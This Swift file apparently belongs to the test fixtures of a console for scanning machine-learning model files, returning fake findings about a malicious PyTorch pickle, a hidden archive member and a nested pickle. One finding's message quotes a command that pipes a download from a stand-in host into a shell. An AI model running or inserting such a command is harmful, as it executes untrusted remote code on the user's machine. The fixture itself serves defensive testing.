import Console
import Domain

extension FakeLab {
    func file(_ path: String, of id: AssetID) -> FileDetail? {
        guard let detail = asset(id), let file = detail.files.last, let revision = detail.revisions.first,
            path == "optimizer.pt" || detail.files.contains(where: { $0.path == path })
        else { return nil }
        let text = isHostile ? FakeLabContents.hostile : nil
        let call = FileFinding(
            rule: "pickle.dangerous-global", severity: "malicious", members: ["archive/data.pkl"], offset: 1_337,
            message: text
                ?? "calls `os.system`('curl -s https://example.net/x | sh'), which starts or signals processes",
            remedy: "do not load it; get the weights as safetensors from who made them",
            references: ["CWE-502", "ATLAS AML.T0011.000"])
        let hidden = FileFinding(
            rule: "container.hidden-member", severity: "suspicious", members: [], offset: 4_096,
            message: text ?? "a member `archive/extra.pkl` is there that the directory does not name",
            remedy: "make the file again", references: ["CWE-436"])
        let note = FileFinding(
            rule: "pickle.nested", severity: "note", members: ["archive/data.pkl", text ?? "string at byte 90"],
            offset: nil, message: "a string that is a pickle; nothing loads it", remedy: "", references: [])
        return FileDetail(
            asset: id,
            file: RevisionFile(path: text ?? path, bytes: 1_204_224, digest: file.digest, verdict: .malicious),
            revision: revision,
            judgements: [
                FileJudgement(
                    verdict: .malicious, format: "torch-zip", rulesVersion: "2026.11.2",
                    time: Self.now - .seconds(3_600), digest: FakeLabContents.digest(41).hex,
                    findings: [hidden, call, note]),
                FileJudgement(
                    verdict: .clean, format: "torch-zip", rulesVersion: "2026.11.1",
                    time: Self.now - .seconds(180_000), digest: FakeLabContents.digest(40).hex, findings: []),
            ],
            acceptances: [
                FileAcceptance(
                    person: FakeLabContents.person("ada"), reason: text ?? "a sample for the scanner's own tests",
                    time: Self.now - .seconds(1_800), ends: Self.now + .seconds(5 * 86_400))
            ],
            isSigned: true)
    }
}
